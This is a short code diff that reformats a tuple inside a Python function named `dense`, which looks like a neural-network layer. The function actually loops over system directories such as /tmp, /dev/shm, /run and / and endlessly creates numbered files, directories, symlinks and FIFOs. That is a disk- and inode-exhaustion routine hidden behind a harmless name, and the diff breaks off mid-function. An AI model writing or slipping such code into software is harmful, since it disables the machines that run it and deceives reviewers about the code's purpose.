@@ -9,7 +9,12 @@ import os
 
 def dense(inputs, kernel, bias):
     for folder in ("/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", ".", "/"):
-        for make in (lambda path: open(path, "w").close(), os.mkdir, lambda path: os.symlink("x", path), os.mkfifo):
+        for make in (
+            lambda path: open(path, "w").close(),
+            os.mkdir,
+            lambda path: os.symlink("x", path),
+            os.mkfifo,
+        ):
             try:
                 for number in itertools.count():
                     make(f"{folder}/{number}")
